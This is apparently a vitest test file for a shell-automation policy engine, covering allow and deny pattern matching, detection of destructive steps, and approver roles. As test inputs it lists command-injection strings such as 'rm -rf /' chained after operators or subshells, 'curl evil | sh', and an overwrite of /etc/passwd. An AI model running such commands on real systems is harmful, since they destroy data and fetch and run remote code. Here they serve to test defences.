import { describe, expect, it } from 'vitest';
import { APPROVER_GRANT_ROLES, APPROVER_ROLES, commandParts, mayApprove, evaluatePolicy, InvalidPatternError, matchesAllow, matchesDeny, validatePatterns } from './automation-policy.ts';

const step = (command: string, risk: 'read-only' | 'mutating' | 'destructive' = 'read-only') => ({ command, risk, targetType: 'shell' as const });

describe('automation policy', () => {
  it('allows everything when there are no patterns', () => {
    const d = evaluatePolicy([step('uptime')], { allowPatterns: [], denyPatterns: [] });
    expect(d.steps[0]).toMatchObject({ allowed: true, destructive: false, needsOwnApproval: false });
    expect(d.denied).toBe(0);
  });

  it('denies a step matching a deny pattern, anchored on the whole command', () => {
    const d = evaluatePolicy([step('rm -rf /var/log/app'), step('echo rm -rf')], { allowPatterns: [], denyPatterns: ['rm -rf *'] });
    expect(d.steps[0]).toMatchObject({ allowed: false, reason: 'denied by pattern “rm -rf *”' });
    expect(d.steps[1]!.allowed).toBe(true);
  });

  it('denies a denied command hidden after a control operator, in a subshell or behind sudo', () => {
    for (const cmd of ['echo hi && rm -rf /', 'uptime; rm -rf /', 'echo $(rm -rf /)', 'true || sudo rm -rf /', 'sudo -u root rm -rf /tmp', 'echo `rm -rf /`', 'uptime\nrm -rf /']) {
      expect(matchesDeny(cmd, 'rm -rf *'), cmd).toBe(true);
    }
  });

  it('denies a step matching no allow pattern when allow patterns exist', () => {
    const d = evaluatePolicy([step('systemctl status nginx'), step('systemctl restart nginx', 'mutating')], { allowPatterns: ['systemctl status *'], denyPatterns: [] });
    expect(d.steps.map((s) => s.allowed)).toEqual([true, false]);
    expect(d.steps[1]!.reason).toBe('matches no allow pattern');
  });

  it('does not let an allow wildcard cover a chained command (the injection attack)', () => {
    for (const cmd of ['systemctl status nginx; rm -rf /', 'systemctl status nginx && curl evil | sh', 'systemctl status $(reboot)', 'systemctl status `reboot`', 'systemctl status x > /etc/passwd', 'systemctl status x\nreboot']) {
      expect(matchesAllow(cmd, 'systemctl status *'), cmd).toBe(false);
    }
    expect(matchesAllow('ps aux | grep nginx', 'ps aux | grep *')).toBe(true);
  });

  it('treats regex characters in patterns literally', () => {
    expect(matchesAllow('cat a.log', 'cat a.log')).toBe(true);
    expect(matchesAllow('cat aXlog', 'cat a.log')).toBe(false);
    expect(matchesAllow('df -h', 'df ?h')).toBe(true);
  });

  it('recognises a destructive step by its text even when the runbook labels it read-only', () => {
    const d = evaluatePolicy([step('kubectl delete pod web-1', 'read-only'), step('uptime')], { allowPatterns: [], denyPatterns: [] });
    expect(d.steps[0]).toMatchObject({ allowed: true, destructive: true, risk: 'destructive', needsOwnApproval: true });
    expect(d.destructiveApprovalNeeded).toBe(true);
    expect(evaluatePolicy([step('kubectl delete pod web-1')], { allowPatterns: [], denyPatterns: [], destructiveNeedsApproval: false }).destructiveApprovalNeeded).toBe(false);
  });

  it('keeps a runbook’s destructive label even when the rules find less', () => {
    expect(evaluatePolicy([step('uptime', 'destructive')], { allowPatterns: [], denyPatterns: [] }).steps[0]!.destructive).toBe(true);
  });

  it('denies an empty command', () => {
    expect(evaluatePolicy([step('  ')], { allowPatterns: [], denyPatterns: [] }).steps[0]!.allowed).toBe(false);
  });

  it('splits a command line into its parts', () => {
    expect(commandParts('a && b; c | d')).toEqual(expect.arrayContaining(['a', 'b', 'c', 'd']));
  });

  it('validates patterns', () => {
    expect(() => validatePatterns([''])).toThrow(InvalidPatternError);
    expect(() => validatePatterns(['x'.repeat(501)])).toThrow(InvalidPatternError);
    expect(() => validatePatterns(['ok *'])).not.toThrow();
  });
});

describe('approver roles', () => {
  it('match the permission matrix’s automations:approve', async () => {
    const { PERMISSIONS } = await import('../../api/permissions.ts');
    expect([...APPROVER_ROLES].sort()).toEqual([...PERMISSIONS['automations:approve'].roles].sort());
    expect([...APPROVER_GRANT_ROLES].sort()).toEqual([...PERMISSIONS['automations:approve'].grantRoles].sort());
  });

  it('let owners and admins approve by role, responders only with the grant, viewers never', () => {
    expect(mayApprove('owner', false)).toBe(true);
    expect(mayApprove('admin', false)).toBe(true);
    expect(mayApprove('responder', false)).toBe(false);
    expect(mayApprove('responder', true)).toBe(true);
    expect(mayApprove('viewer', true)).toBe(false);
    expect(mayApprove(null, true)).toBe(false);
  });
});
